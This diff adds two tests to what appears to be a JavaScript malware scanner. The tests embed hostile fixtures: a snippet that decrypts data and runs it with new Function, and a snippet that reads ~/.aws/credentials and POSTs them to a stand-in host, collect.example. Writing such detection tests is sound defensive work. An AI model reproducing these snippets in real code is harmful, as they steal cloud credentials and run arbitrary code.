@@ -323,3 +323,28 @@ def test_a_default_host_is_where_a_client_sends():
     # The caller's host, with no default: the code names no host, and it stays a note.
     found = run({"index.js": code.replace("host = 'api.reports.example'", "host")})
     assert not any(f.rule == "code/secret-exfiltration" and f.severity.label in ("high", "critical") for f in found), found
+
+
+def test_a_function_literal_handed_to_a_helper_gets_what_the_helper_calls_it_with():
+    # GlassWorm-style (sixth blind set): the helper decrypts what it downloaded and calls its `cb`
+    # parameter with the code; the literal handed to it runs that code.
+    code = ("const crypto = require('crypto');\n"
+            "function fetchStage(data, cb) {\n"
+            "  const d = crypto.createDecipheriv('aes-256-cbc', Buffer.alloc(32), Buffer.alloc(16));\n"
+            "  cb(Buffer.concat([d.update(data), d.final()]).toString());\n}\n"
+            "fetchStage(Buffer.from(process.argv[2] || ''), (code) => { new Function(code)(); });\n")
+    assert any(f.rule == "code/decrypt-and-run" for f in run({"index.js": code}))
+    # The literal handed to the other parameter is not called with it.
+    other = code.replace("function fetchStage(data, cb)", "function fetchStage(cb, data)") \
+                .replace("fetchStage(Buffer.from(process.argv[2] || ''), (code)", "fetchStage(() => {}, Buffer.from(''), (code)")
+    assert not any(f.rule == "code/decrypt-and-run" for f in run({"index.js": other}))
+
+
+def test_what_is_added_to_a_collection_made_in_place_is_in_what_holds_it():
+    # `(found[kind] ??= new Set()).add(key)` (the LLM-key harvester of the sixth blind set): the keys are in `found`.
+    code = ("const fs = require('fs'), os = require('os');\n"
+            "function harvest() { const found = {};\n"
+            "  const text = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\n"
+            "  (found.aws ??= new Set()).add(text); return found; }\n"
+            "fetch('https://collect.example/k', { method: 'POST', body: JSON.stringify(harvest()) });\n")
+    assert any(f.rule == "code/secret-exfiltration" and f.severity.label == "critical" for f in run({"index.js": code}))
